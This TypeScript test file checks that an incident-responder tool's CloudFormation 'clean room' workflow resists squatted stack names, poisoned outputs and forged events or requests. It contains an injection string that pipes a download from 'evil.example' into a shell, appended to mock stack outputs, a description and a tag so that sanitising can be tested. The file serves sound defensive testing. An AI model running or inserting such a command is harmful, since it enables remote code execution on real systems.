/**
 * The clean room under attack: a squatted stack name, outputs that carry a command, status
 * events for stacks the incident did not create, and forged clean-room requests and triggers.
 */
import {
  CloudFormationClient,
  CreateStackCommand,
  DeleteStackCommand,
  DescribeStacksCommand,
  ListStacksCommand,
  type Stack,
} from "@aws-sdk/client-cloudformation";
import { DescribeManagedPrefixListsCommand, EC2Client } from "@aws-sdk/client-ec2";
import { mockClient } from "aws-sdk-client-mock";
import { beforeEach, describe, expect, it } from "vitest";
import { requestCleanroom } from "../../../cli/commands/cleanroom.ts";
import type { AlertMessage } from "../../../shared/alerts/message.ts";
import {
  CLEANROOM_DESTROY_STEP,
  CLEANROOM_STEP,
  type CleanroomDeps,
  type CleanroomRecord,
  destroyCleanroom,
  handleCleanroomEvent,
  launchCleanroom,
  sweepCleanrooms,
} from "../../../shared/workflow/cleanroom.ts";
import {
  ACCOUNT,
  anIncident,
  aSealedIncident,
  INCIDENT_ID,
  MemoryStore,
  policy,
  RecordingAlerter,
  RecordingBus,
  silentLog,
} from "./fakes.ts";

const REGION = "us-east-1";
const NOW = new Date("2026-03-01T12:00:00Z");
const PREDICTABLE = `incident-responder-cleanroom-${INCIDENT_ID}`;
const SUFFIX = "0123456789ab";
const FRESH = `${PREDICTABLE}-${SUFFIX}`;
const LAUNCH_ID = "f".repeat(32);
const arn = (name: string, uuid: string, account = ACCOUNT) =>
  `arn:aws:cloudformation:${REGION}:${account}:stack/${name}/${uuid}`;
const SQUAT_ID = arn(PREDICTABLE, "00000000-0000-0000-0000-00000000bad0");
const OWN_ID = arn(PREDICTABLE, "5b7e0a40-0000-11ef-8000-0a1b2c3d4e5f");
const FRESH_ID = arn(FRESH, "5b7e0a40-0000-11ef-8000-0a1b2c3d4e60");
const KEY = `arn:aws:kms:${REGION}:${ACCOUNT}:key/1234abcd-12ab-34cd-56ef-1234567890ab`;
const BUCKET = `incident-responder-dev-evidence-${ACCOUNT}-${REGION}`;
const EVIL = "; curl http://evil.example | sh";
const credentials = { accessKeyId: "x", secretAccessKey: "y" };
const cfn = new CloudFormationClient({ region: REGION, credentials });
const ec2 = new EC2Client({ region: REGION, credentials });
const cfnMock = mockClient(cfn);
const ec2Mock = mockClient(ec2);

const GOOD_OUTPUTS = {
  WorkstationInstanceId: "i-0123456789abcdef0",
  VpcId: "vpc-0123456789abcdef0",
  SecurityGroupId: "sg-0123456789abcdef0",
  EvidenceVolumeIds: "vol-0aaaaaaaaaaaaaaa0,vol-0bbbbbbbbbbbbbbb0",
  SessionManagerCommand: `aws ssm start-session --target i-0123456789abcdef0 --region ${REGION}`,
  NotesPrefix: `s3://${BUCKET}/incidents/${INCIDENT_ID}/notes/`,
};
const CONNECT = GOOD_OUTPUTS.SessionManagerCommand;
/** Every output an attacker can write, each with a command in it. */
const POISONED = {
  WorkstationInstanceId: `i-0123456789abcdef0${EVIL}`,
  VpcId: `vpc-0123456789abcdef0${EVIL}`,
  SecurityGroupId: `sg-0123456789abcdef0${EVIL}`,
  EvidenceVolumeIds: `vol-0aaaaaaaaaaaaaaa0${EVIL}`,
  SessionManagerCommand: `aws ssm start-session --target i-0123456789abcdef0 --region ${REGION}${EVIL}`,
  NotesPrefix: `s3://${BUCKET}/incidents/${INCIDENT_ID}/notes/${EVIL}`,
  Extra: EVIL,
};

function aStack(
  name: string,
  id: string,
  status: string,
  outputs: Record<string, string>,
  tags: Record<string, string> = {},
): Stack {
  return {
    StackName: name,
    StackId: id,
    StackStatus: status as Stack["StackStatus"],
    CreationTime: NOW,
    Description: `Clean room${EVIL}`,
    Outputs: Object.entries(outputs).map(([OutputKey, OutputValue]) => ({ OutputKey, OutputValue })),
    Tags: Object.entries({
      "incident-responder:managed": "true",
      "incident-responder:expires-at": "2026-03-02T12:00:00Z",
      ...tags,
    }).map(([Key, Value]) => ({ Key, Value })),
  };
}
const squatter = (status = "CREATE_COMPLETE") =>
  aStack(PREDICTABLE, SQUAT_ID, status, POISONED, { "incident-responder:created-by": `x${EVIL}` });

function awsError(name: string, message: string, status = 400): Error {
  return Object.assign(new Error(message), { name, $fault: "client", $metadata: { httpStatusCode: status } });
}
const missing = (name: string) => awsError("ValidationError", `Stack with id ${name} does not exist`);

let store: MemoryStore;
let alerter: RecordingAlerter;

function deps(overrides: Partial<CleanroomDeps> = {}): CleanroomDeps {
  return {
    store,
    alerter,
    bus: new RecordingBus(),
    policy,
    log: silentLog,
    dryRun: false,
    now: () => NOW,
    clientsFor: async () => ({ cfn, ec2, region: REGION }),
    template: async () => ({ body: "Resources: {}\n", source: "cleanroom.yaml" }),
    bucket: BUCKET,
    kmsKeyArn: KEY,
    explicitVolumeSize: false,
    ownAccount: async () => ACCOUNT,
    settleWaitMs: 0,
    randomHex: (n) => (n === 12 ? SUFFIX : LAUNCH_ID).slice(0, n),
    ...overrides,
  };
}

const record = async () => (await store.get(INCIDENT_ID)).cleanroom as unknown as CleanroomRecord | undefined;
const step = async (name = CLEANROOM_STEP) => (await store.get(INCIDENT_ID)).steps[name];
const createCalls = () => cfnMock.commandCalls(CreateStackCommand).map((c) => c.args[0].input);
/** Everything an alert says, in every form it is sent. */
const said = (a: AlertMessage) => `${a.subject}\n${a.text}\n${JSON.stringify(a.json)}`;
const allAlerts = () => alerter.sent.map(said).join("\n");

beforeEach(async () => {
  cfnMock.reset();
  ec2Mock.reset();
  store = new MemoryStore();
  alerter = new RecordingAlerter();
  await store.open(aSealedIncident());
  ec2Mock.on(DescribeManagedPrefixListsCommand).resolves({
    PrefixLists: [{ PrefixListId: "pl-63a5400a", PrefixListName: `com.amazonaws.${REGION}.s3` }],
  });
});

describe("the connect command", () => {
  beforeEach(() => {
    cfnMock.on(DescribeStacksCommand, { StackName: PREDICTABLE }).rejects(missing(PREDICTABLE));
    cfnMock.on(CreateStackCommand).resolves({ StackId: OWN_ID });
  });

  it("is built from the validated instance id and the stack's region, never copied from the outputs", async () => {
    const outputs = { ...GOOD_OUTPUTS, SessionManagerCommand: POISONED.SessionManagerCommand };
    cfnMock
      .on(DescribeStacksCommand, { StackName: OWN_ID })
      .resolves({ Stacks: [aStack(PREDICTABLE, OWN_ID, "CREATE_COMPLETE", outputs)] });

    await launchCleanroom(INCIDENT_ID, { kind: "evidence" }, deps());

    expect((await record())?.connect).toBe(CONNECT);
    expect((await record())?.untrustedOutputs).toEqual(["SessionManagerCommand"]);
    expect(alerter.sent.map((a) => a.stage)).toEqual(["cleanroom-ready"]);
    expect(alerter.sent[0]?.json.facts).toMatchObject({ Connect: CONNECT });
    expect(allAlerts()).not.toContain("curl");
  });

  it("is left out, and the alert says the outputs were not trusted, when no output passes its check", async () => {
    cfnMock
      .on(DescribeStacksCommand, { StackName: OWN_ID })
      .resolves({ Stacks: [aStack(PREDICTABLE, OWN_ID, "CREATE_COMPLETE", POISONED)] });

    const out = await launchCleanroom(INCIDENT_ID, { kind: "evidence" }, deps());

    expect(out.outcome).toBe("ready");
    const r = await record();
    expect(r?.connect).toBeUndefined();
    expect(r?.outputs).toEqual({});
    expect(r?.untrustedOutputs).toEqual(expect.arrayContaining(Object.keys(POISONED)));
    expect(alerter.sent[0]?.text).toMatch(/outputs were not trusted.*no connect command/);
    expect(alerter.sent[0]?.json.facts).toMatchObject({ Connect: expect.stringMatching(/^\(none/) });
    expect(allAlerts()).not.toContain("curl");
    expect(allAlerts()).not.toContain("evil");
    expect(JSON.stringify(await store.get(INCIDENT_ID))).not.toContain("evil");
  });
});

describe("a squatted stack name", () => {
  beforeEach(() => {
    cfnMock.on(DescribeStacksCommand, { StackName: PREDICTABLE }).resolves({ Stacks: [squatter()] });
    cfnMock.on(DescribeStacksCommand, { StackName: FRESH }).rejects(missing(FRESH));
    cfnMock
      .on(DescribeStacksCommand, { StackName: FRESH_ID })
      .resolves({ Stacks: [aStack(FRESH, FRESH_ID, "CREATE_COMPLETE", GOOD_OUTPUTS)] });
    cfnMock.on(CreateStackCommand).resolves({ StackId: FRESH_ID });
  });

  it("is never adopted: the responder creates its own stack under a fresh, unpredictable name", async () => {
    const out = await launchCleanroom(INCIDENT_ID, { kind: "evidence" }, deps());

    expect(out.outcome).toBe("ready");
    expect(createCalls().map((c) => c.StackName)).toEqual([FRESH]);
    expect(createCalls()[0]?.Tags).toContainEqual({ Key: "incident-responder:launch-id", Value: LAUNCH_ID });
    expect(await record()).toMatchObject({ stackName: FRESH, stackId: FRESH_ID, connect: CONNECT });
  });

  it("is recorded on the incident and alerted as a possible attack, without a word of its outputs", async () => {
    await launchCleanroom(INCIDENT_ID, { kind: "evidence" }, deps());

    expect((await record())?.squatted).toEqual([
      { stackName: PREDICTABLE, stackId: SQUAT_ID, status: "CREATE_COMPLETE", detectedAt: NOW.toISOString() },
    ]);
    expect(alerter.sent.map((a) => a.stage)).toEqual(["failed", "cleanroom-ready"]);
    expect(alerter.sent[0]?.text).toMatch(
      /POSSIBLE ATTACK.*incident-responder-cleanroom-ir-20260301-0a1b2c3d/s,
    );
    expect(alerter.sent[0]?.text).toContain(SQUAT_ID);
    expect(alerter.sent[1]?.json.facts).toMatchObject({ Connect: CONNECT });
    expect(allAlerts()).not.toContain("curl");
    expect(allAlerts()).not.toContain("evil");
    expect(JSON.stringify(await store.get(INCIDENT_ID))).not.toContain("evil");
  });

  it("is not adopted when it takes the name between the look-up and CreateStack", async () => {
    cfnMock.reset();
    cfnMock
      .on(DescribeStacksCommand, { StackName: PREDICTABLE })
      .rejectsOnce(missing(PREDICTABLE))
      .resolves({ Stacks: [squatter()] });
    cfnMock
      .on(DescribeStacksCommand, { StackName: FRESH_ID })
      .resolves({ Stacks: [aStack(FRESH, FRESH_ID, "CREATE_COMPLETE", GOOD_OUTPUTS)] });
    cfnMock
      .on(CreateStackCommand)
      .rejectsOnce(awsError("AlreadyExistsException", `Stack [${PREDICTABLE}] already exists`))
      .resolves({ StackId: FRESH_ID });

    const out = await launchCleanroom(INCIDENT_ID, { kind: "evidence" }, deps());

    expect(out.outcome).toBe("ready");
    expect(createCalls().map((c) => c.StackName)).toEqual([PREDICTABLE, FRESH]);
    expect(await record()).toMatchObject({
      stackId: FRESH_ID,
      squatted: [expect.objectContaining({ stackId: SQUAT_ID })],
    });
    expect(allAlerts()).not.toContain("evil");
  });

  it("is never deleted: destroy acts only on the stack id the incident recorded", async () => {
    const out = await destroyCleanroom(INCIDENT_ID, { kind: "request", requestedBy: "jane" }, deps());

    expect(out.outcome).toBe("skipped");
    expect(out.detail).toMatch(/records no clean room the responder created/);
    expect(cfnMock.commandCalls(DeleteStackCommand)).toHaveLength(0);
  });

  it("is left alone by the expiry sweep, even with an expired tag", async () => {
    cfnMock.on(ListStacksCommand).resolves({
      StackSummaries: [
        { StackName: PREDICTABLE, StackId: SQUAT_ID, StackStatus: "CREATE_COMPLETE", CreationTime: NOW },
      ],
    });
    cfnMock.on(DescribeStacksCommand, { StackName: SQUAT_ID }).resolves({ Stacks: [squatter()] });

    const out = await sweepCleanrooms(deps({ now: () => new Date("2026-03-03T00:00:00Z") }));

    expect(out).toEqual([expect.objectContaining({ action: "sweep", outcome: "left-alone" })]);
    expect(cfnMock.commandCalls(DeleteStackCommand)).toHaveLength(0);
  });
});

describe("the expiry sweep", () => {
  it("deletes a recorded clean room at its recorded expiry, not at an earlier tag", async () => {
    await store.open(
      aSealedIncident({
        cleanroom: {
          stackName: PREDICTABLE,
          stackId: OWN_ID,
          status: "CREATE_COMPLETE",
          outputs: {},
          expiresAt: "2026-03-05T00:00:00Z",
        },
      }),
    );
    cfnMock.on(ListStacksCommand).resolves({
      StackSummaries: [
        { StackName: PREDICTABLE, StackId: OWN_ID, StackStatus: "CREATE_COMPLETE", CreationTime: NOW },
      ],
    });
    cfnMock
      .on(DescribeStacksCommand, { StackName: OWN_ID })
      .resolves({ Stacks: [aStack(PREDICTABLE, OWN_ID, "CREATE_COMPLETE", GOOD_OUTPUTS)] });

    await sweepCleanrooms(deps({ now: () => new Date("2026-03-03T00:00:00Z") }));
    expect(cfnMock.commandCalls(DeleteStackCommand)).toHaveLength(0);

    await sweepCleanrooms(deps({ now: () => new Date("2026-03-05T00:00:01Z") }));
    expect(cfnMock.commandCalls(DeleteStackCommand).map((c) => c.args[0].input.StackName)).toEqual([OWN_ID]);
  });
});

describe("CloudFormation status events", () => {
  beforeEach(async () => {
    cfnMock.on(DescribeStacksCommand, { StackName: PREDICTABLE }).rejects(missing(PREDICTABLE));
    cfnMock.on(CreateStackCommand).resolves({ StackId: OWN_ID });
    cfnMock
      .on(DescribeStacksCommand, { StackName: OWN_ID })
      .resolves({ Stacks: [aStack(PREDICTABLE, OWN_ID, "CREATE_IN_PROGRESS", {})] });
    await launchCleanroom(INCIDENT_ID, { kind: "evidence" }, deps());
    expect(await step()).toMatchObject({ status: "waiting" });
    cfnMock.resetHistory();
    cfnMock
      .on(DescribeStacksCommand)
      .resolves({ Stacks: [aStack(PREDICTABLE, OWN_ID, "CREATE_COMPLETE", GOOD_OUTPUTS)] });
  });

  const statusEvent = (stackId: string, account: string | undefined, status = "CREATE_COMPLETE") => ({
    source: "aws.cloudformation",
    "detail-type": "CloudFormation Stack Status Change",
    ...(account ? { account } : {}),
    detail: { "stack-id": stackId, "status-details": { status } },
  });

  it.each([
    [
      "for a stack id the incident did not record (same name)",
      statusEvent(SQUAT_ID, ACCOUNT),
      /not the stack id/,
    ],
    ["from another account", statusEvent(OWN_ID, "999988887777"), /comes from account 999988887777/],
    ["without an account", statusEvent(OWN_ID, undefined), /comes from account \(none\)/],
    [
      "for a stack in another account",
      statusEvent(arn(PREDICTABLE, "5b7e0a40-0000-11ef-8000-0a1b2c3d4e5f", "999988887777"), ACCOUNT),
      /stack is in account 999988887777/,
    ],
    [
      "for a stack the incident did not record, ending in failure",
      statusEvent(SQUAT_ID, ACCOUNT, "CREATE_FAILED"),
      /not the stack id/,
    ],
    [
      "deleting a stack the incident did not record",
      statusEvent(SQUAT_ID, ACCOUNT, "DELETE_COMPLETE"),
      /not the stack id/,
    ],
  ])("changes nothing %s", async (_name, event, why) => {
    const before = await store.get(INCIDENT_ID);

    const out = await handleCleanroomEvent(event, deps());

    expect(out).toMatchObject({ action: "status", outcome: "ignored", detail: expect.stringMatching(why) });
    expect(cfnMock.calls()).toHaveLength(0);
    expect(await store.get(INCIDENT_ID)).toEqual(before);
    expect(alerter.sent).toHaveLength(0);
  });

  it("changes nothing when the stack id recorded while it waited is not the event's", async () => {
    // The launch is still recording: only its intent (the name) is on the record so far.
    const intent = { stackName: PREDICTABLE, launchId: LAUNCH_ID, status: "CREATE_REQUESTED", outputs: {} };
    const incident = aSealedIncident({ cleanroom: intent });
    incident.steps[CLEANROOM_STEP] = { status: "running", startedAt: NOW.toISOString(), attempts: 1 };
    await store.open(incident);
    const recorded = { ...intent, stackId: OWN_ID, status: "CREATE_IN_PROGRESS" };
    setTimeout(() => {
      void store.finishStep(INCIDENT_ID, CLEANROOM_STEP, "waiting", "stack creating", {
        set: { cleanroom: recorded },
      });
    }, 50);

    const out = await handleCleanroomEvent(statusEvent(SQUAT_ID, ACCOUNT), deps({ settleWaitMs: 5_000 }));

    expect(out).toMatchObject({ outcome: "ignored", detail: expect.stringMatching(/not the stack id/) });
    expect(cfnMock.calls()).toHaveLength(0);
    expect(await step()).toMatchObject({ status: "waiting" });
    expect(await record()).toEqual(recorded);
  });

  it("counts the one from the incident's account for the recorded stack id", async () => {
    const out = await handleCleanroomEvent(statusEvent(OWN_ID, ACCOUNT), deps());

    expect(out).toMatchObject({ outcome: "ready" });
    expect(await step()).toMatchObject({ status: "ok" });
  });
});

describe("clean-room requests", () => {
  const REQUEST_ID = `crq-${"0123456789abcdef".repeat(2)}`;
  const requestEvent = (detail: Record<string, unknown>, type = "Clean Room Requested") => ({
    source: "incident-responder",
    "detail-type": type,
    detail: { incidentId: INCIDENT_ID, ...detail },
  });
  const record = (action: "create" | "destroy" = "create", at = NOW.toISOString()) =>
    store.recordCleanroomRequest(INCIDENT_ID, {
      requestId: REQUEST_ID,
      action,
      by: "arn:aws:sts::111122223333:assumed-role/Responder/jane",
      at,
    });

  beforeEach(() => {
    cfnMock.on(DescribeStacksCommand, { StackName: PREDICTABLE }).rejects(missing(PREDICTABLE));
    cfnMock.on(CreateStackCommand).resolves({ StackId: OWN_ID });
    cfnMock
      .on(DescribeStacksCommand, { StackName: OWN_ID })
      .resolves({ Stacks: [aStack(PREDICTABLE, OWN_ID, "CREATE_COMPLETE", GOOD_OUTPUTS)] });
  });

  it.each([
    ["no recorded request", async () => undefined, {}, /no valid request id/],
    [
      "an unknown request id",
      async () => undefined,
      { requestId: REQUEST_ID },
      /no request crq-.* is recorded/,
    ],
    [
      "a by field",
      record,
      { requestId: REQUEST_ID, by: "arn:aws:iam::111122223333:user/jane" },
      /names who asked/,
    ],
    ["a requestedBy field", record, { requestId: REQUEST_ID, requestedBy: "jane" }, /names who asked/],
    [
      "a destroy request's id",
      () => record("destroy"),
      { requestId: REQUEST_ID },
      /is a destroy request, not create/,
    ],
    [
      "a request older than an hour",
      () => record("create", "2026-03-01T10:59:59Z"),
      { requestId: REQUEST_ID },
      /older than 60 minutes/,
    ],
  ])(
    "refuses a request event with %s: nothing is created, and it is alerted",
    async (_name, arrange, detail, why) => {
      await arrange();

      const out = await handleCleanroomEvent(requestEvent(detail), deps());

      expect(out).toMatchObject({
        action: "request",
        outcome: "refused",
        detail: expect.stringMatching(why),
      });
      expect(cfnMock.calls()).toHaveLength(0);
      const incident = await store.get(INCIDENT_ID);
      expect(incident.steps[CLEANROOM_STEP]).toBeUndefined();
      expect(incident.cleanroom).toBeUndefined();
      expect(alerter.sent.map((a) => a.stage)).toEqual(["rejected"]);
      expect(alerter.sent[0]?.text).toMatch(/Clean Room Requested event was refused/);
      expect(incident.timeline.at(-1)).toMatchObject({
        step: "cleanroom-request",
        detail: expect.stringMatching(why),
      });
    },
  );

  it("refuses a forged destroy request: nothing is deleted", async () => {
    await store.open(
      aSealedIncident({
        cleanroom: { stackName: PREDICTABLE, stackId: OWN_ID, status: "CREATE_COMPLETE", outputs: {} },
      }),
    );

    const out = await handleCleanroomEvent(
      requestEvent({ requestedBy: "attacker" }, "Clean Room Destroy Requested"),
      deps(),
    );

    expect(out).toMatchObject({ outcome: "refused" });
    expect(cfnMock.commandCalls(DeleteStackCommand)).toHaveLength(0);
    expect((await store.get(INCIDENT_ID)).steps[CLEANROOM_DESTROY_STEP]).toBeUndefined();
  });

  it("refuses a request for an incident that does not exist", async () => {
    const out = await handleCleanroomEvent(
      {
        ...requestEvent({ requestId: REQUEST_ID }),
        detail: { incidentId: "ir-20260301-ffffffff", requestId: REQUEST_ID },
      },
      deps(),
    );

    expect(out).toMatchObject({ outcome: "refused" });
    expect(cfnMock.calls()).toHaveLength(0);
    expect(alerter.sent.map((a) => a.stage)).toEqual(["rejected"]);
  });

  it("acts on a recorded request once, as the person who recorded it", async () => {
    await record();
    const plan = await store.get(INCIDENT_ID);
    await store.open({ ...plan, plan: { ...plan.plan, actions: [] } });

    const first = await handleCleanroomEvent(requestEvent({ requestId: REQUEST_ID }), deps());
    const again = await handleCleanroomEvent(requestEvent({ requestId: REQUEST_ID }), deps());

    expect(first).toMatchObject({ action: "launch", outcome: "ready" });
    expect(again).toMatchObject({ action: "request", outcome: "already" });
    expect(createCalls()).toHaveLength(1);
    expect(createCalls()[0]?.Parameters).toContainEqual({
      ParameterKey: "CreatedBy",
      ParameterValue:
        "incident-responder/cleanroom requested-by arn:aws:sts::111122223333:assumed-role/Responder/jane",
    });
    const incident = await store.get(INCIDENT_ID);
    expect(incident.cleanroomRequests?.[REQUEST_ID]?.consumedAt).toBe(NOW.toISOString());
    expect(incident.cleanroom).toMatchObject({
      requestId: REQUEST_ID,
      requestedBy: "arn:aws:sts::111122223333:assumed-role/Responder/jane",
    });
  });
});

describe("`responder cleanroom create`", () => {
  it("records the request under the caller's identity, then sends an event carrying only the ids", async () => {
    cfnMock.on(DescribeStacksCommand, { StackName: PREDICTABLE }).rejects(missing(PREDICTABLE));
    cfnMock.on(CreateStackCommand).resolves({ StackId: OWN_ID });
    cfnMock
      .on(DescribeStacksCommand, { StackName: OWN_ID })
      .resolves({ Stacks: [aStack(PREDICTABLE, OWN_ID, "CREATE_COMPLETE", GOOD_OUTPUTS)] });
    const sent: { detail: Record<string, unknown>; recorded: boolean }[] = [];
    const lane = deps({ now: () => new Date() });
    const bus = {
      emit: async (detailType: "Clean Room Requested", detail: Record<string, unknown>) => {
        const requests = (await store.get(INCIDENT_ID)).cleanroomRequests ?? {};
        sent.push({ detail, recorded: String(detail.requestId) in requests });
        setTimeout(() => {
          void handleCleanroomEvent(
            { source: "incident-responder", "detail-type": detailType, detail },
            lane,
          );
        }, 0);
      },
    };

    const out = await requestCleanroom({ store, bus }, "create", INCIDENT_ID, {
      by: "arn:aws:sts::111122223333:assumed-role/Responder/jane",
      timeoutMs: 5_000,
      intervalMs: 10,
    });

    expect(sent).toEqual([{ detail: { incidentId: INCIDENT_ID, requestId: out.requestId }, recorded: true }]);
    expect(out.requestId).toMatch(/^crq-[0-9a-f]{32}$/);
    expect(out.step).toMatchObject({ status: "ok" });
    expect(out.cleanroom).toMatchObject({
      requestedBy: "arn:aws:sts::111122223333:assumed-role/Responder/jane",
      connect: CONNECT,
    });
    expect((await store.get(INCIDENT_ID)).cleanroomRequests?.[out.requestId ?? ""]).toMatchObject({
      action: "create",
      by: "arn:aws:sts::111122223333:assumed-role/Responder/jane",
      consumedAt: expect.any(String),
    });
  });
});

describe("Evidence Preserved", () => {
  const evidenceEvent = {
    source: "incident-responder",
    "detail-type": "Evidence Preserved",
    detail: { incidentId: INCIDENT_ID, account: ACCOUNT, tier: "critical" },
  };

  it.each([
    ["no manifest step", anIncident()],
    [
      "a failed manifest step",
      {
        ...aSealedIncident(),
        steps: { manifest: { status: "failed" as const, startedAt: "x", attempts: 1 } },
      },
    ],
    [
      "no manifest key",
      { ...aSealedIncident(), evidence: { snapshots: anIncident().evidence?.snapshots ?? [] } },
    ],
  ])("launches nothing when the record shows %s (a forged event)", async (_name, incident) => {
    await store.open(incident);

    const out = await handleCleanroomEvent(evidenceEvent, deps());

    expect(out).toMatchObject({
      action: "launch",
      outcome: "refused",
      detail: expect.stringMatching(/no sealed evidence/),
    });
    expect(cfnMock.calls()).toHaveLength(0);
    expect((await store.get(INCIDENT_ID)).steps[CLEANROOM_STEP]).toBeUndefined();
    expect(alerter.sent.map((a) => a.stage)).toEqual(["rejected"]);
  });
});
